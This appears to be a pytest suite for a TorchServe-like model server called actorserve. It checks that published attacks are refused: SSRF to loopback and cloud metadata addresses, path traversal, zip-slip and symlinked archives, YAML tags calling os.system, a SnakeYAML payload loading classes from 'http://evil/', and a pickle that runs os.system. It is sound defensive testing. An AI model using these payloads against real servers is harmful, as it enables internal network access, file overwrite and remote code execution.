"""The attacks that were published on TorchServe, each as it was made: none of them gets in.

CVE-2023-43654 (GHSA-8fxr-qfr9-p34w): models from any URL, server-side request forgery. GHSA-mjmj-j48q-9wg2: a
management API that is open by default. The relatives of CVE-2022-1471: untrusted YAML and pickles that run code.
pytorch/serve#3082: `..` in URLs. #3083: ports bound to every interface. Where a file would do harm, the test first
shows that it does, to a reader that trusts it.
"""

import io
import json
import os
import pickle
import stat
import subprocess
import sys
import tarfile
import zipfile

import pytest
import torch
import trio
import yaml
from grpclib.client import UnaryUnaryMethod
from grpclib.const import Status
from grpclib.exceptions import GRPCError
from web import Names, answer, redirect, web

from actorserve import config, testing
from actorserve.errors import ConfigError
from actorserve.proto import management_grpc, management_pb2
from actorserve.services.tokens import Token, Tokens

ANY = r"http://127\.0\.0\.1:[0-9]+/.*"
TORCHSERVES_DEFAULT = ["file://.*", "http(s)?://.*"]
MANAGEMENT = "/org.pytorch.serve.grpc.management.ManagementAPIsService"
HANDLER = b"def handle(data, context):\n    return data\n"


class Target:
    """A server's folders and configuration, and the file that an attack would make."""

    def __init__(self, folder):
        self.folder = folder
        self.store = folder / "store"
        self.store.mkdir()
        self.marker = folder / "owned"

    def content(self, *patterns, **server):
        given = {"model_store": str(self.store), "cache_dir": str(self.folder / "cache"), "allowed_urls": patterns}
        return {"server": given | server, "models": {}}

    def is_untouched(self):
        """Nothing in the store, nothing unpacked, nothing beside them."""
        unpacked = list(self.folder.glob("cache/archives/*/*"))
        return not self.marker.exists() and not os.listdir(self.store) and not unpacked


@pytest.fixture
def target(tmp_path):
    return Target(tmp_path)


async def refused(app, status, text, **fields):
    """RegisterModel of a model fails so, and no model is there."""
    async with app.channel("management") as channel:
        stub = management_grpc.ManagementAPIsServiceStub(channel)
        with pytest.raises(GRPCError) as caught:
            await stub.RegisterModel(management_pb2.RegisterModelRequest(model_name="m", **fields))
    assert (caught.value.status, text in caught.value.message) == (status, True), caught.value.message
    assert app.tree().models == ()


# --- CVE-2023-43654: models from any URL, requests that the server makes for somebody else -------------------


@pytest.mark.parametrize(
    "text",
    [
        "http://127.0.0.1:{port}/m.mar",
        "https://127.0.0.1:{port}/m.mar",
        "HTTP://127.0.0.1:{port}/m.mar",
        "ftp://127.0.0.1:{port}/m.mar",
        "jar:http://127.0.0.1:{port}!/m.mar",
        "file:///etc/passwd",
        "https://torchserve.pytorch.org/mar_files/densenet161.mar",
    ],
)
async def test_from_any_url(target, text):
    """By default nothing is fetched from anywhere; TorchServe's text says so, and the URL is never asked."""
    async with testing.serve(target.content(), workers="scripted") as app, web() as evil:
        url = text.format(port=evil.port)
        await refused(app, Status.NOT_FOUND, f"Given URL {url} does not match any allowed URL(s)", url=url)
        assert evil.requests == []
    assert target.is_untouched()


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost", "2130706433", "0177.0.0.1", "127.1"],  # noqa: S104
)
async def test_ssrf_to_this_machine(target, host):
    """With TorchServe's own default pattern, which allows any URL, the server asks nothing of its own machine."""
    names = {name: [["127.0.0.1"]] for name in ("localhost", "2130706433", "0177_0_0_1", "127_1")}
    async with testing.serve(target.content(*TORCHSERVES_DEFAULT), workers="scripted") as app, web() as inner:
        trio.socket.set_custom_hostname_resolver(Names(**names))
        await refused(app, Status.NOT_FOUND, "does not match any allowed URL(s)", url=inner.url("/m.mar", host))
        assert inner.requests == []
    assert target.is_untouched()


@pytest.mark.parametrize("host", ["169.254.169.254", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "10.0.0.1"])
async def test_ssrf_to_the_cloud(target, host):
    """Nor does it ask the places where clouds tell an instance its secrets, nor its private network."""
    url = f"http://{host}/latest/meta-data/m.mar"
    async with testing.serve(target.content(*TORCHSERVES_DEFAULT), workers="scripted") as app:
        await refused(app, Status.NOT_FOUND, "is not public", url=url)
    assert target.is_untouched()


async def test_ssrf_by_name(target):
    """A name on the internet that says loopback, or one good address and a bad one, opens nothing (DNS)."""
    names = Names(
        evil_example=[["127.0.0.1"]], mixed_example=[["93.184.216.34", "10.0.0.1"]], v6_example=[["64:ff9b::7f00:1"]]
    )
    async with testing.serve(target.content(*TORCHSERVES_DEFAULT), workers="scripted") as app, web() as inner:
        trio.socket.set_custom_hostname_resolver(names)
        for name in ("evil.example", "mixed.example", "v6.example"):
            await refused(app, Status.NOT_FOUND, f"{name} is not public", url=inner.url("/m.mar", name))
        assert inner.requests == []
    assert target.is_untouched()


async def test_ssrf_by_redirect(target):
    """An allowed URL that leads to one that is not allowed, to the cloud's secrets or to a file, leads nowhere."""
    async with testing.serve(target.content(ANY), workers="scripted") as app, web() as allowed:
        for location, status in (
            ("http://169.254.169.254/latest/meta-data/iam/", Status.NOT_FOUND),
            (f"http://localhost:{allowed.port}/secret", Status.NOT_FOUND),
            ("file:///etc/passwd", Status.INVALID_ARGUMENT),
            ("gopher://127.0.0.1/", Status.INVALID_ARGUMENT),
        ):
            allowed.pages["/m.mar"] = redirect(location)
            await refused(app, status, "", url=allowed.url("/m.mar"))
        assert set(allowed.targets) == {"/m.mar"}
    assert target.is_untouched()


async def test_ssrf_by_a_changing_name(target):
    """A name whose address changes between the check and the connection gains nothing: there is one look-up."""
    names = Names(evil_example=[["127.0.0.1"], ["93.184.216.34"]], localhost=[["127.0.0.1"], ["10.0.0.1"]])
    pattern = "http://localhost:[0-9]+/.*"
    async with testing.serve(target.content(pattern), workers="scripted") as app, web() as allowed:
        trio.socket.set_custom_hostname_resolver(names)
        await refused(app, Status.INVALID_ARGUMENT, "404", url=allowed.url("/m.mar", "localhost"))
        assert (names.asked, len(allowed.requests)) == (["localhost"], 1)


# --- #3082: `..` in URLs, and other ways out of the store -------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "{base}/../../m.mar",
        "{base}/%2e%2e/m.mar",
        "{base}/..%2fm.mar",
        "{base}/a/..\\m.mar",
        "file:///allowed/../../etc/m.mar",
        "../m.mar",
        "sub/../../m.mar",
    ],
)
async def test_relative_urls(target, url):
    """`..` is refused in every spelling, in URLs and in paths, whatever is allowed; nothing is asked."""
    (target.folder / "m.mar").write_bytes(b"x")
    async with testing.serve(target.content(ANY, "file:///allowed/.*"), workers="scripted") as app, web() as allowed:
        given = url.format(base=allowed.url(""))
        await refused(app, Status.INVALID_ARGUMENT, f"Relative path is not allowed in url: {given}", url=given)
        assert allowed.requests == []
    assert target.is_untouched()


@pytest.mark.parametrize("url", ["/etc", "/etc/passwd", "{folder}/m.mar", "link.mar", "link"])
async def test_out_of_the_store(target, url):
    """Neither an absolute path nor a link inside the store leads out of it."""
    (target.folder / "m.mar").write_bytes(b"x")
    (target.store / "link.mar").symlink_to(target.folder / "m.mar")
    (target.store / "link").symlink_to(target.folder)
    async with testing.serve(target.content(), workers="scripted") as app:
        text = "is not a folder inside the model store"
        await refused(app, Status.INVALID_ARGUMENT, text, url=url.format(folder=target.folder))


@pytest.mark.parametrize("path", ["/..%5C..%5Cowned.mar", "/%2Fetc%2Fcron.d%2Fowned.mar", "/.mar", "/-o.mar"])
async def test_names_that_urls_give(target, path):
    """What a URL's file is called in the store is one plain name in it, or it is refused."""
    async with testing.serve(target.content(ANY), workers="scripted") as app, web() as allowed:
        allowed.pages[path] = answer(b"not an archive")
        await refused(app, Status.INVALID_ARGUMENT, "", url=allowed.url(path))
    assert target.is_untouched()


# --- archives that write elsewhere ------------------------------------------------------------------------------


def a_zip(name, data=b"owned", mode=stat.S_IFREG | 0o644):
    member = zipfile.ZipInfo("x")
    member.filename, member.create_system, member.external_attr = name, 3, mode << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"modelName": "m", "handler": "h.py"}}))
        archive.writestr("h.py", HANDLER)
        archive.writestr(member, data)
    return file.getvalue()


def a_tar(name, kind=tarfile.REGTYPE, link=""):
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, link
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        archive.addfile(member)
    return file.getvalue()


ARCHIVES = {
    "slip": (a_zip, {"name": "../../../owned"}, "leads out of the archive"),
    "absolute": (a_zip, {"name": "FOLDER/owned"}, "an absolute path"),
    "backslash": (a_zip, {"name": "..\\owned"}, "a backslash"),
    "symlink": (a_zip, {"name": "in", "data": "FOLDER", "mode": stat.S_IFLNK | 0o777}, "a symbolic link"),
    "tar slip": (a_tar, {"name": "m/../../owned"}, "leads out of the archive"),
    "tar symlink": (a_tar, {"name": "in", "kind": tarfile.SYMTYPE, "link": "FOLDER"}, "a symbolic link"),
    "tar link": (a_tar, {"name": "in", "kind": tarfile.LNKTYPE, "link": "/etc/passwd"}, "a hard link"),
    "tar device": (a_tar, {"name": "in", "kind": tarfile.CHRTYPE}, "a device"),
    "tar pipe": (a_tar, {"name": "in", "kind": tarfile.FIFOTYPE}, "a pipe"),
}


@pytest.mark.parametrize("case", ARCHIVES)
async def test_archives_that_write_elsewhere(target, case):
    """An archive from an allowed URL that leads out of its folder, or holds what is no file, is refused as a whole."""
    make, given, text = ARCHIVES[case]
    name = "m.mar" if make is a_zip else "m.tar.gz"
    given = {
        key: value.replace("FOLDER", str(target.folder)) if isinstance(value, str) else value
        for key, value in given.items()
    }
    async with testing.serve(target.content(ANY), workers="scripted") as app, web() as allowed:
        allowed.pages[f"/{name}"] = answer(make(**given))
        await refused(app, Status.INVALID_ARGUMENT, text, url=allowed.url(f"/{name}"))
    assert target.is_untouched()


# --- YAML and pickles that run code --------------------------------------------------------------------------------

YAMLS = {
    "system": "a: !!python/object/apply:os.system ['touch {marker}']",
    "new": "!!python/object/new:os.system ['touch {marker}']",
    "popen": "a: !!python/object/apply:subprocess.check_output [[touch, '{marker}']]",
    "name": "!!python/name:os.system",
    "module": "!!python/module:os",
    "snakeyaml": '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]',
}


@pytest.mark.parametrize("case", YAMLS)
async def test_yaml_that_runs_code(target, case):
    """A model-config.yaml is read as data: a tag that makes objects is refused, in the server as in the worker."""
    text = YAMLS[case].format(marker=target.marker)
    if "marker" in YAMLS[case]:
        yaml.load(text, Loader=yaml.UnsafeLoader)  # noqa: S506  # that it does harm
        target.marker.unlink()
    with zipfile.ZipFile(target.store / "m.mar", "w") as archive:
        model = {"modelName": "m", "handler": "h.py", "configFile": "c.yaml"}
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": model}))
        archive.writestr("h.py", HANDLER)
        archive.writestr("c.yaml", text)
    async with testing.serve(target.content(), workers="scripted") as app:
        await refused(app, Status.INVALID_ARGUMENT, "c.yaml: it is not YAML", url="m.mar")
    (target.store / "m.mar").unlink()
    assert target.is_untouched()


class Evil:
    """Runs a command when it is unpickled."""

    def __init__(self, marker):
        self.command = f"touch {marker}"

    def __reduce__(self):
        return os.system, (self.command,)


NET = b"import torch\n\nclass Net(torch.nn.Module):\n    pass\n"


class Doubled(torch.nn.Module):
    """A model for an exported program."""

    def forward(self, x):
        return x * 2


def saved(evil):
    file = io.BytesIO()
    torch.save(evil, file)
    return file.getvalue()


def exported(evil):
    """A .pt2 whose sample inputs are a pickle that does harm."""
    good, bad = io.BytesIO(), io.BytesIO()
    torch.export.save(torch.export.export(Doubled(), (torch.ones(2),)), good)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(bad, "w") as archive:
        for name in source.namelist():
            archive.writestr(name, saved(evil) if "sample_inputs" in name else source.read(name))
    return bad.getvalue()


PICKLES = {
    "state dict": ("w.pth", saved, "torch.load(path, weights_only=False)"),
    "old pickle": ("w.pt", pickle.dumps, "__import__('pickle').load(open(path, 'rb'))"),
    "exported program": ("w.pt2", exported, "torch.export.load(path)"),
}


@pytest.mark.parametrize("case", PICKLES)
async def test_weights_that_run_code(target, case):
    """Weights that are a pickle which runs a command are not loaded: registering fails, and the command has not run."""
    name, make, reader = PICKLES[case]
    (target.folder / name).write_bytes(make(Evil(target.marker)))
    harm = f"import sys, torch\npath = sys.argv[1]\n{reader}"
    await trio.to_thread.run_sync(
        lambda: subprocess.run(
            [sys.executable, "-c", harm, str(target.folder / name)], check=False, capture_output=True
        )
    )
    target.marker.unlink()  # it does harm to who trusts it
    model = {"modelName": "m", "handler": "base_handler", "serializedFile": name}
    with zipfile.ZipFile(target.store / "m.mar", "w") as archive:
        if not name.endswith(".pt2"):
            model["modelFile"] = "net.py"
            archive.writestr("net.py", NET)
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": model}))
        archive.write(target.folder / name, name)
    async with testing.serve(target.content()) as app:
        await refused(app, Status.FAILED_PRECONDITION, "", url="m.mar", initial_workers=1, synchronous=True)
    (target.store / "m.mar").unlink()
    assert target.is_untouched()


# --- GHSA-mjmj-j48q-9wg2, #3083: an open management API, on every interface -----------------------------------


def test_only_this_machine_by_default(tmp_path):
    """Without a configuration every listener is on loopback."""
    listeners = config.parse({}, folder=tmp_path).listeners
    assert {address for one in listeners.values() for address in one.addresses} == {"127.0.0.1:7070", "127.0.0.1:7071"}


@pytest.mark.parametrize("address", ["0.0.0.0:7071", "[::]:7071", "192.168.1.2:7071", "models.example:7071"])
@pytest.mark.parametrize("given", [{}, {"tls": {"certificate": "c", "key": "k"}}, {"tokens_file": "t"}])
def test_management_for_everybody(tmp_path, address, given):
    """A management listener that others can reach is refused unless it has both TLS and tokens."""
    listener = {"address": ["127.0.0.1:7071", address], "services": ["management"], **given}
    with pytest.raises(ConfigError, match="is not loopback and has no") as caught:
        config.parse({"listeners": {"management": listener}}, folder=tmp_path)
    assert caught.value.key == "listeners.management"


class NoMessage:
    """Octets that are no message."""

    def SerializeToString(self):  # noqa: N802  # protobuf's name
        return b"\xff\xff"


@pytest.mark.parametrize("authorization", ["", "Bearer wrong", "Bearer", "Basic dG9rZW4=", "token"])
async def test_management_without_a_token(target, authorization):
    """A call without a known token is refused before its message is read: one that is no message at all is
    UNAUTHENTICATED, for every method, and nothing has happened.
    """
    (target.folder / "tokens.toml").write_text(
        "[tokens.a]\nsha256 = '3c469e9d6c5875d37a43f353d4f88e61fcf812c66eee3457465a40b0da4153e0'\n"  # of "token"
    )
    tokens = str(target.folder / "tokens.toml")
    services = ["management"]
    content = target.content()
    content["listeners"] = {"management": {"address": "127.0.0.1:0", "services": services, "tokens_file": tokens}}
    async with testing.serve(content, workers="scripted") as app, app.channel("management") as channel:

        async def status(rpc, given):
            call = UnaryUnaryMethod(channel, f"{MANAGEMENT}/{rpc}", NoMessage, management_pb2.ManagementResponse)
            with pytest.raises(GRPCError) as caught:
                await call(NoMessage(), metadata={"authorization": given} if given else {})
            return caught.value.status

        for rpc in ("RegisterModel", "UnregisterModel", "ScaleWorker", "SetDefault", "ListModels", "DescribeModel"):
            assert await status(rpc, authorization) is Status.UNAUTHENTICATED
            assert await status(rpc, "Bearer token") is Status.INVALID_ARGUMENT
        assert app.tree().models == ()


def test_no_part_of_a_token_is_a_token():
    """A token is known by its hash as a whole: its beginning, more than it, its hash, or another case are nobody."""
    digest = bytes.fromhex("3c469e9d6c5875d37a43f353d4f88e61fcf812c66eee3457465a40b0da4153e0")
    tokens = Tokens([Token("a", digest)])
    assert tokens.find("Bearer token") is not None
    for guess in ("", "t", "toke", "tokenn", "TOKEN", "token\0", digest.hex()):
        assert tokens.find(f"Bearer {guess}") is None
